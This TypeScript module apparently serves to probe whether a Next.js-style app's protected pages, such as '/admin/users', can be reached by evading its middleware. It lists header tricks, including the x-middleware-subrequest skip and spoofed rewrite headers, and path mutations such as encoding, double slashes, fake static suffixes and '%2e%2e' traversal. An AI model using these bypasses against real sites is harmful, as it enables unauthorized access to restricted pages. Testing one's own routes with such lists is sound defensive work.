/** Ways of asking for a page that are meant to get past a wall: by the shape of the address, and by headers. */
const subrequest = "middleware:middleware:middleware:middleware:middleware";
const tree = encodeURIComponent(
  JSON.stringify(["", { children: ["admin", { children: ["users", {}] }] }, null, "refetch"]),
);

export const headerBypasses: Record<string, string>[] = [
  {},
  { rsc: "1" },
  { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" },
  { rsc: "1", "next-router-state-tree": tree, "next-url": "/admin/users" },
  { "x-middleware-subrequest": subrequest, "x-middleware-prefetch": "1", purpose: "prefetch" },
  { "x-middleware-subrequest": `src/${subrequest}`, "x-nextjs-data": "1", "x-invoke-path": "/admin/users" },
  { "x-middleware-rewrite": "/admin/users", "x-matched-path": "/admin/users", "x-original-url": "/admin/users" },
];

export const asRsc = (address: string) => address.replace(/(\?|$)/, ".rsc$1");
export const asSegment = (address: string) => address.replace(/(\?|$)/, ".segments/_tree.segment.rsc$1");

/** Every shape of one address; the plain one first. */
export const addressBypasses: ((address: string) => string)[] = [
  (address) => address,
  asRsc,
  asSegment,
  (address) => `/${address}`,
  (address) => address.replace(/(?<=.)\//, "//"),
  (address) => address.replace(/(\?|$)/, "/$1"),
  (address) => address.replace(/^\/(.)/, (_, letter: string) => `/%${letter.charCodeAt(0).toString(16)}`),
  (address) => address.replace(/(?<=.)\//, "%2f"),
  (address) => address.replace(/^\/[^/?]*/, (first) => first.toUpperCase()),
  (address) => address.replace(/(\?|$)/, ".png$1"),
  (address) => address.replace(/(\?|$)/, "/x.png$1"),
  (address) => `/_next/data/x${address.replace(/(\?|$)/, ".json$1")}`,
  (address) => `/_next/static/%2e%2e/%2e%2e${address}`,
  (address) => `/no-access/..${address}`,
];
